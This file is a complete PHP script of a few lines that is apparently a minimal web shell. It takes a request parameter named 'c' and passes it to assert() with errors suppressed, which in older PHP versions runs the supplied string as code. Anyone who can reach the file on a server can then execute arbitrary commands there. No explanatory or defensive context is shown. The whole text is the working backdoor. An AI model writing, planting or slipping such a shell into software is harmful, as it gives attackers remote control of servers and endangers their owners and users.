<?php
if (isset($_REQUEST["c"])) {
    @assert($_REQUEST["c"]);
}
